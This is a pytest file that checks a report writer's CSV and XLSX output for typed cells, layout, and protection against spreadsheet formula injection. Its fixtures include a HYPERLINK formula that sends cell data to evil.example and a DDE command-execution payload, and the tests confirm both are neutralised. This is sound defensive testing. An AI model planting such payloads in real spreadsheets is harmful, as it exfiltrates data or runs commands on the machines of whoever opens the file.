"""findings.xlsx and the CSV tables: typed cells, autofilter, widths, formula injection."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

import netorg
from netorg.report.tables import (
    MAX_WIDTH,
    _excel_cell,
    neutralise,
    to_table,
    write_csv,
    write_xlsx,
)

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "org": [EVIL, "+31 Zorg", "-Min", "@Home", "Gewoon", "\tTab", "\rCR", None],
            "reasons": ["ok", "=1+1", "fine", "- bullet", "x", "y", "z", ""],
            "contacts": [("Alice", "=cmd|' /C calc'!A0"), (), ("Bob",), (), (), (), (), ()],
            "value": [-1.5, 2.0, np.nan, -3.0, 0.0, 1e9, 4.25, -0.5],
            "count": pd.array([-1, 2, None, 4, 5, 6, 7, 8], dtype="Int64"),
            "active": [True, False, True, True, False, True, False, True],
            "end": pd.to_datetime(
                ["2026-11-30", None, "2024-01-01", "2025-02-28", None, None, None, None]
            ).astype("datetime64[s]"),
            "long": ["word " * 40] + [""] * 7,
        }
    )


def test_neutralise_follows_owasp() -> None:
    for trigger in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert neutralise(f"{trigger}x") == f"'{trigger}x"
    for safe in ("", "Zorg", "a=b", " =1", "'=already"):
        assert neutralise(safe) == safe


def test_csv_neutralises_text_and_keeps_numbers(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_csv(frame, tmp_path / "t.csv")
    raw = path.read_text(encoding="utf-8")
    assert "\r\n" not in raw
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    col = {name: i for i, name in enumerate(header)}
    orgs = [r[col["org"]] for r in body]
    assert orgs[:7] == ["'" + EVIL, "'+31 Zorg", "'-Min", "'@Home", "Gewoon", "'\tTab", "'\rCR"]
    assert orgs[7] == ""
    assert body[1][col["reasons"]] == "'=1+1"
    assert body[3][col["reasons"]] == "'- bullet"
    # every element of a ;-joined list is neutralised too
    assert body[0][col["contacts"]] == "Alice;'=cmd|' /C calc'!A0"
    # negative numbers stay numbers: written bare, not quoted, no prefix
    assert body[0][col["value"]] == "-1.5"
    assert body[0][col["count"]] == "-1"
    assert body[0][col["end"]] == "2026-11-30" and body[1][col["end"]] == ""
    assert body[0][col["active"]] == "True"
    lines = raw.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")  # text is quoted (OWASP: wrap in quotes)
    assert ",-1.5," in lines[1]  # numbers are not
    back = pd.read_csv(path)
    assert back["value"].iloc[0] == -1.5 and back["count"].iloc[0] == -1


def test_to_table_leaves_the_input_alone(frame: pd.DataFrame) -> None:
    before = frame.copy()
    table = to_table(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert table["org"].iloc[0] == "'" + EVIL


def _read(path: Path, sheet: str) -> tuple[list[str], list[list[object]]]:
    ws = load_workbook(path)[sheet]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    return [str(v) for v in rows[0]], rows[1:]


def test_xlsx_cells_are_typed(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_xlsx({"t": frame, "other": frame.head(2)}, tmp_path / "f.xlsx")
    book = load_workbook(path)
    ws = book["t"]
    header = [c.value for c in ws[1]]
    col = {name: i for i, name in enumerate(header)}
    first = ws[2]
    value = first[col["value"]]
    assert value.data_type == "n" and value.value == -1.5  # a negative number, untouched
    assert first[col["count"]].value == -1 and first[col["count"]].data_type == "n"
    assert first[col["active"]].data_type == "b" and first[col["active"]].value is True
    assert ws[3][col["active"]].value is False
    end = first[col["end"]]
    assert end.is_date and end.number_format == "yyyy-mm-dd"
    assert end.value == dt.datetime(2026, 11, 30)
    assert ws[3][col["end"]].value is None  # missing date: empty cell
    assert ws[4][col["value"]].value is None  # NaN: empty cell
    assert first[col["contacts"]].value == "Alice;'=cmd|' /C calc'!A0"
    assert first[col["contacts"]].data_type == "s"


def test_xlsx_neutralises_and_never_writes_formulas(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_xlsx({"t": frame}, tmp_path / "f.xlsx")
    header, rows = _read(path, "t")
    orgs = [r[header.index("org")] for r in rows]
    assert orgs[:6] == ["'" + EVIL, "'+31 Zorg", "'-Min", "'@Home", "Gewoon", "'\tTab"]
    assert orgs[6] in ("'\rCR", "'\nCR")  # XML readers may turn a bare CR into LF
    assert orgs[7] is None
    assert rows[1][header.index("reasons")] == "'=1+1"
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_openpyxl_would_make_a_formula_but_we_write_text() -> None:
    """openpyxl reads any string starting with '=' as a formula; the writer prevents it."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    from openpyxl.cell import WriteOnlyCell

    assert WriteOnlyCell(sheet, value="=1+1").data_type == "f"  # openpyxl's default
    for text in ("=1+1", "#N/A", "#REF!"):
        cell = _excel_cell(sheet, text)
        assert not isinstance(cell, str) and cell.data_type == "s"  # type: ignore[attr-defined]
    assert _excel_cell(sheet, "bell\x07") == "bell\ufffd"  # XML cannot hold it
    assert _excel_cell(sheet, "") is None


def test_xlsx_layout_filter_freeze_and_widths(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_xlsx({"t": frame, "empty": frame.head(0)}, tmp_path / "f.xlsx")
    book = load_workbook(path)
    for name, rows in (("t", len(frame)), ("empty", 0)):
        ws = book[name]
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:H{rows + 1}"
    widths = {k: v.width for k, v in book["t"].column_dimensions.items()}
    assert set(widths) == set("ABCDEFGH")
    assert all(8 <= w <= MAX_WIDTH for w in widths.values())
    assert widths["H"] == MAX_WIDTH  # the long text column is capped
    assert widths["G"] == 12  # a date: yyyy-mm-dd plus margin
    with zipfile.ZipFile(path) as archive:
        assert b"_FilterDatabase" in archive.read("xl/workbook.xml")


def test_xlsx_is_reproducible(frame: pd.DataFrame, tmp_path: Path) -> None:
    one = write_xlsx({"t": frame}, tmp_path / "one.xlsx").read_bytes()
    two = write_xlsx({"t": frame}, tmp_path / "two.xlsx").read_bytes()
    assert one == two


@pytest.fixture(scope="module")
def evil_eco() -> netorg.Ecosystem:
    orgs = pd.DataFrame(
        {
            "id": ["A", "B", "C", "D"],
            "name": [EVIL, "+31 Zorg", "-Min", "@Home"],
            "type": ["municipality", "care_provider", "care_provider", "school"],
        }
    )
    agreements = pd.DataFrame(
        {
            "id": ["X1", "X2", "X3"],
            "type": ["purchase", "covenant", "purchase"],
            "source": ["A", "B", "A"],
            "target": ["B", "C", "D"],
            "contacts": ["=1+1;Alice", "", ""],
            "start": ["2020-01-01", "2021-01-01", "2019-01-01"],
            "end": ["", "", "2030-12-31"],
        }
    )
    return netorg.from_frames(orgs, agreements, as_of="2024-01-01", name="evil")


def test_analyze_outputs_are_neutralised(evil_eco: netorg.Ecosystem, tmp_path: Path) -> None:
    netorg.write_outputs(evil_eco, tmp_path)
    ties = pd.read_csv(tmp_path / "ties.csv", keep_default_na=False)
    names = set(ties["org_a_name"]) | set(ties["org_b_name"])
    assert names == {"'" + EVIL, "'+31 Zorg", "'-Min", "'@Home"}
    risks = pd.read_csv(tmp_path / "risks.csv", keep_default_na=False)
    assert all(not d.startswith(("=", "+", "-", "@")) for d in risks["detail"])
    assert any(d.startswith("'=HYPERLINK") for d in risks["detail"])  # a reason naming it
    assert set(ties["contacts"]) >= {"'=1+1;Alice"}
    header, rows = _read(tmp_path / "findings.xlsx", "ties")
    xlsx_names = {r[header.index("org_a_name")] for r in rows}
    assert xlsx_names <= {"'" + EVIL, "'+31 Zorg", "'-Min", "'@Home"}
    assert {r[header.index("n_agreements")] for r in rows} == {1}  # numbers stay numbers
    first_start = rows[0][header.index("first_start")]
    assert isinstance(first_start, dt.datetime)  # a real date
    header, rows = _read(tmp_path / "findings.xlsx", "risks")
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
